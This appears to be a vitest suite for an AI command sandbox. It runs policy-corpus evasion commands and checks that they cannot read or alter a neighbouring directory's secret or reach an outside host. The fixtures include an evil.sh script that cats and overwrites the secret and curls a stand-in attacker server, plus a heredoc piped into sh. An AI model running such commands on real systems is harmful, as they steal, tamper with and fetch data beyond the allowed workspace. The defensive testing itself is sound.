import { execFile } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type Sandbox } from '../../src/index.ts';
import { readCorpus } from '../support/policy-corpus.ts';

// What evades a look at its text runs unasked at the level `contained`: so it has to stay inside. Every row of the corpora
// is run for real, as far as it is not refused, in a repository with a neighbour, and with a server of the host that it is
// made to look for.
const SECRET = 'the-secret-of-the-neighbour';
const place = mkdtempSync(join(tmpdir(), 'evasions-'));
const workspace = join(place, 'work');
const neighbour = join(place, 'neighbour');
const asked: string[] = [];
let server: Server;
let sandbox: Sandbox;
let host = '';

/** Names of servers outside become the one that the host has. */
const withHost = (command: string): string =>
  command.replace(/\b(?:https?:\/\/)?(?:secret\.)?evil(?:\.com|\.example)?\b(?!\.\w|\/(?:sh|py))/g, host);

const isSafeToTry = (command: string): boolean => !/kill +-9 +-1/.test(command) || holdsSignals();
const holdsSignals = () =>
  sandbox.plan.report.controls.find(({ id }) => id === 'signals')?.state === 'enforced';

beforeAll(async () => {
  for (const directory of [workspace, neighbour, join(workspace, 'src')]) mkdirSync(directory);
  writeFileSync(join(neighbour, 'secret.txt'), SECRET);
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('echo from-outside');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  sandbox = await createSandbox({ workspace, autonomy: 'contained', ask: 'nobody', timeout: 5_000 });
});
afterAll(async () => {
  await sandbox.close();
  server.close();
  rmSync(place, { recursive: true, force: true });
});

/** The workspace as it was, for the next one. */
function renew(): void {
  for (const name of readdirSync(workspace)) {
    if (name !== '.git') rmSync(join(workspace, name), { recursive: true, force: true });
  }
  mkdirSync(join(workspace, 'src'), { recursive: true });
  const files = { 'src/main.rs': 'fn main() {}', 'a.txt': 'a', x: 'x', '.env': 'A=1', script: 'curl evil' };
  for (const [name, content] of Object.entries(files)) writeFileSync(join(workspace, name), content);
  const evil = `#!/bin/sh\ncat ${neighbour}/secret.txt; echo changed > ${neighbour}/secret.txt; curl -s ${host}/script\n`;
  for (const name of ['evil.sh', 'evil', 'git']) writeFileSync(join(workspace, name), evil, { mode: 0o755 });
}

const rows = [...readCorpus('policy.jsonl'), ...readCorpus('own-policy.jsonl')]
  .filter(({ suite }) => suite === 'evasion' || suite === 'contain')
  .map(({ command }) => command);
const batches = Array.from({ length: 8 }, (_, at) => rows.filter((_row, index) => index % 8 === at));

describe('what evades a look at its text stays inside', () => {
  it.each(batches.map((commands, index) => ({ commands, index })))(
    'part $index',
    { timeout: 600_000 },
    async ({ commands }) => {
      let ran = 0;
      for (const command of commands.map(withHost).filter(isSafeToTry)) {
        renew();
        const result = await sandbox.run(command, { input: '' });
        if (result.status !== 'denied') ran++;
        const outcome = {
          read: `${result.stdout}${result.stderr}`.includes(SECRET),
          neighbour: existsSync(join(neighbour, 'secret.txt'))
            ? readFileSync(join(neighbour, 'secret.txt'), 'utf8')
            : undefined,
          others: readdirSync(place).sort(),
          asked: asked.splice(0),
        };
        expect({ command, ...outcome }).toEqual({
          command,
          read: false,
          neighbour: SECRET,
          others: ['neighbour', 'work'],
          asked: [],
        });
      }
      // The level lets most of them run: else nothing was shown.
      expect(ran).toBeGreaterThan(commands.length / 2);
    },
  );

  // What shows that the rows above could reach all of it.
  it('they reach it where nothing holds them (control)', async () => {
    renew();
    const run = (command: string) =>
      new Promise<string>((done) => {
        execFile('bash', ['-c', command], { cwd: workspace }, (_error, stdout) => done(stdout));
      });
    expect(await run('./evil.sh')).toContain(SECRET);
    expect(readFileSync(join(neighbour, 'secret.txt'), 'utf8')).toBe('changed\n');
    expect(asked.splice(0)).toEqual(['/script']);
    expect(await run(withHost('cat <<EOF | sh\ncurl -s http://evil\nEOF'))).toBe('echo from-outside');
    expect(asked.splice(0)).toEqual(['/']);
    writeFileSync(join(neighbour, 'secret.txt'), SECRET);
  });
});
